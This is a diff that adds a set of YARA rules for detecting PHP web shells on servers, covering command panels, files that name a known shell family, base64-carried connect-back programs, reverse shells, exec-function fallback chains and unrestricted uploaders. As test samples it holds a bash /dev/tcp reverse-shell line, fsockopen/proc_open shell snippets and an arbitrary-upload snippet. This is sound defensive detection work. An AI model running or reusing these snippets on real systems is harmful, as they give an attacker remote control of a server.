@@ -1,0 +1,152 @@
+/* Web shells as programs: panels that run commands, manage files, connect back. */
+
+rule shell_panel {
+  meta:
+    id = "web-shell/panel"
+    title = "A web shell: a panel to run commands and manage files"
+    family = "full-shell"
+    severity = "critical"
+    confidence = "certain"
+    description = "The file shows the server to a visitor (system name, disabled functions, owners, rights) and runs commands or code that the visitor sends."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "<?php exit; echo php_uname(); $d = ini_get('disable_functions'); $o = posix_getpwuid(1); echo (($perms & 0x0800) ? 1 : 0); passthru($cmd);"
+    must_not = "<?php echo php_uname(); // site health: show the system\n$info = ini_get('disable_functions');"
+  strings:
+    $tag = "<?" private
+    $uname = "php_uname" nocase private
+    $safe = "safe_mode" nocase
+    $disabled = "disable_functions" nocase
+    $owner = "posix_getpwuid" nocase
+    $group = "posix_getgrgid" nocase
+    $rights = /&\s{0,2}0x0[248]00\s{0,2}\)\s{0,2}\?/
+    $passwd = "/etc/passwd"
+    $temp = "/tmp/" 
+    $back = /back[ _-]?connect|bind[ _-]?(shell|port)|reverse[ _-]?shell/ nocase
+    $self = /unlink\s?\(\s?(__FILE__|\$_SERVER\[.SCRIPT_FILENAME)/ nocase
+    $mass = /mass[ _-]?(deface|edit|change)|defac(e|er|ing)\b|symlink\s{0,2}\(/ nocase
+    $free = /disk_(free|total)_space|diskfreespace/ nocase
+    $fake = /(hacked|coded|recoded|powered|modified) by/ nocase
+    $editor = /name=.{0,2}(cmd|command|shell|execute|perintah|komut|comando)\b/ nocase
+    $upload = "move_uploaded_file" nocase
+    $magic = "get_magic_quotes_gpc" nocase
+    $phpinfo = "phpinfo()" nocase
+    $run = /[^\w>$:](system|passthru|shell_exec|exec|popen|proc_open)\s{0,2}\(\s{0,2}@?['"]?\$/ nocase private
+    $code = /\beval\s{0,2}\(\s{0,2}['"?>.]{0,6}\s?(stripslashes\s?\(\s?)?\$/ nocase private
+  condition:
+    $tag and ($run or $code) and (($uname and 5 of ($safe, $disabled, $owner, $group, $rights, $passwd, $temp, $back, $self, $mass, $free, $fake, $editor, $upload, $magic, $phpinfo)) or 7 of ($safe, $disabled, $owner, $group, $rights, $passwd, $temp, $back, $self, $mass, $free, $fake, $editor, $upload, $magic, $phpinfo)) or ($tag and $uname and $disabled and $owner and $rights and ($run or $code))
+}
+
+rule shell_says_so {
+  meta:
+    id = "web-shell/says-so"
+    title = "The file calls itself a web shell"
+    family = "full-shell"
+    severity = "critical"
+    confidence = "likely"
+    description = "The page title, a heading or a comment names a known family of web shells, and the file can run commands, code or write files."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "<?php exit; /* b374k */ system($x); echo '<title>inert</title>';"
+    must_match = "<title>Mini Shell</title><?php exit; move_uploaded_file($a, $b);"
+    must_not = "<?php // Protects against shells such as b374k\n$list = get_list();"
+  strings:
+    $tag = "<?" private
+    $title = /<(title|h1|h2|center)>[^<\n]{0,60}\b(web ?shell|mini ?shell|php ?shell|shell backdoor|backdoor|bypass|private shell|shell v?\d)\b[^<\n]{0,60}</ nocase
+    $name = /\b(b374k|c99shell|c99sh_\w+|r57shell|wso_version|WSOsetcookie|FilesMan|FilesTools|IndoXploit|idx ?shell|AnonymousFox|AlfaTeam|alfa[ _-]?shell|Locus7s|Storm7Shell|SyRiAn ?Sh3ll|Gel4y|Mister ?Spy|angel_bc|spider_bc|PhpSpy|Antichat Shell|NetworkFileManagerPHP|nstview|GFS[ _-]web-shell|simattacker|Dx ?Shell|w4ck1ng|h4ntu shell|zaco ?shell|NCC shell|KA_uShell|Ajax\/PHP Command Shell|aspydrv|PHPJackal|Predator|Liz0ziM|Ayyildiz|1n73ction|0byt3m1n1|tryag|backdoorman|priv8 ?(shell|mailer|uploader)|sym403|KingDefacer|Madspot|leafmailer)\b/ nocase
+    $run = /[^\w>$:](system|passthru|shell_exec|exec|popen|proc_open|eval|move_uploaded_file|fwrite|fputs|file_put_contents|copy|gzinflate|base64_decode|mail|create_function|fopen)\s{0,2}\(/ nocase private
+    $scanner = /(malware|virus|security)[ _-]?(scan|signature|plugin)/ nocase private
+  condition:
+    $tag and $run and any of ($title, $name) and not $scanner
+}
+
+rule payload_connects_back {
+  meta:
+    id = "web-shell/connect-back-payload"
+    title = "A program that connects back to the attacker is carried along"
+    family = "exec-misc"
+    severity = "critical"
+    confidence = "certain"
+    description = "The file carries a program in base64 (a perl or C shell) that it writes to disk and starts."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "<?php exit; $p = 'IyEvdXNyL2Jpbi9wZXJs'; fwrite($f, base64_decode($p));"
+    must_match = "<?php exit; $c = 'I2luY2x1ZGUgPHN0ZGlvLmg+';"
+    must_not = "<?php $x = base64_decode($data); fwrite($f, $x);"
+  strings:
+    $tag = "<?" private
+    $perl = /IyEvdXNyL2Jpbi9(wZXJs|waHAK|lbnYg|weXRob24)/
+    $c = "I2luY2x1ZGUgPHN0ZGlvLmg"
+    $c2 = "I2luY2x1ZGUgPHN5cy9z"
+    $elf = /["']f0VMRg[EI]BAQ[AM]/
+    $sh = /(IyEvYmluL3No|IyEvYmluL2Jhc2g)/
+  condition:
+    $tag and any of ($perl, $c, $c2, $elf, $sh)
+}
+
+rule connects_back {
+  meta:
+    id = "web-shell/connects-back"
+    title = "A shell is tied to a network connection"
+    family = "exec-misc"
+    severity = "critical"
+    confidence = "likely"
+    description = "The script opens a network connection and runs a command interpreter over it: remote control of the server."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "<?php exit; $s = fsockopen($ip, $port); $p = proc_open('/bin/sh -i', $d, $pipes);"
+    must_match = "<?php exit; exec(\"/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\");"
+    must_not = "<?php $s = fsockopen('ssl://smtp.example.test', 465); // no shell here: see /bin/shadow"
+  strings:
+    $tag = "<?" private
+    $socket = /\b(fsockopen|pfsockopen|stream_socket_client|stream_socket_server|socket_create|socket_connect)\s{0,2}\(/ nocase private
+    $start = /\b(proc_open|popen|shell_exec|exec|system|passthru)\s{0,2}\(/ nocase private
+    $shell = /\/bin\/(ba|z|k|da)?sh -i|(proc_open|popen)\s?\(\s?['"](\/bin\/(ba)?sh|cmd(\.exe)?)\b/
+    $device = /\/dev\/tcp\/[\d$"'{]/
+    $spawn = /(bash|sh) -i\s{0,2}[>0-9&<|]/
+  condition:
+    $tag and (($socket and $start and $shell) or $device or $spawn)
+}
+
+rule exec_chain {
+  meta:
+    id = "web-shell/tries-every-exec"
+    title = "Every way to run a command is tried in turn"
+    family = "exec-misc"
+    severity = "high"
+    confidence = "likely"
+    description = "A function tries one command function after the other until one is allowed, as web shells do on locked-down servers."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "<?php exit; function ex($c) { if (function_exists('exec')) { exec($c, $r); } elseif (function_exists('shell_exec')) { $r = shell_exec($c); } elseif (function_exists('system')) { system($c); } elseif (function_exists('passthru')) { passthru($c); } }"
+    must_not = "<?php if (function_exists('exec')) { exec('ls'); } // shell_exec, system and passthru are not used"
+  strings:
+    $tag = "<?" private
+    $a = /[^\w>$:]exec\s{0,2}\(\s{0,2}\$/ nocase
+    $b = /[^\w>$:]shell_exec\s{0,2}\(\s{0,2}\$/ nocase
+    $c = /[^\w>$:]system\s{0,2}\(\s{0,2}\$/ nocase
+    $d = /[^\w>$:]passthru\s{0,2}\(\s{0,2}\$/ nocase
+    $e = /[^\w>$:]popen\s{0,2}\(\s{0,2}\$/ nocase
+    $f = /[^\w>$:]proc_open\s{0,2}\(\s{0,2}\$/ nocase
+  condition:
+    $tag and 4 of ($a, $b, $c, $d, $e, $f)
+}
+
+rule upload_as_named {
+  meta:
+    id = "web-shell/uploads-anything"
+    title = "Anyone may upload any file under any name"
+    family = "uploader"
+    severity = "high"
+    confidence = "likely"
+    description = "The page takes an upload and stores it under the name that the visitor chose, beside itself, with a bare form and no other purpose."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "<?php exit; echo '<form enctype=\"multipart/form-data\">'; copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);"
+    must_not = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . md5($name) . '.jpg');"
+  strings:
+    $tag = "<?" private
+    $direct = /\b(copy|move_uploaded_file|rename)\s{0,2}\(\s{0,2}@?\$(_FILES|HTTP_POST_FILES)\s{0,2}\[[^;]{1,60}tmp_name["']?\s?\]?\s{0,2},\s{0,2}(['"]?[.\/]{0,3}['"]?\s{0,2}\.\s{0,2}|__DIR__\s{0,2}\.\s{0,2}["']\/["']\s{0,2}\.\s{0,2}|(\$_POST|\$_GET|\$_REQUEST)\s?\[[^\]]{1,30}\]\s{0,2}\.?\s{0,2}["'\/.]{0,5}\s{0,2}\.?\s{0,2})?@?(basename\s?\(\s?)?\$(_FILES|HTTP_POST_FILES|_POST|_GET|_REQUEST)\s{0,2}\[/ nocase
+  condition:
+    $tag and $direct and filesize < 12KB
+}
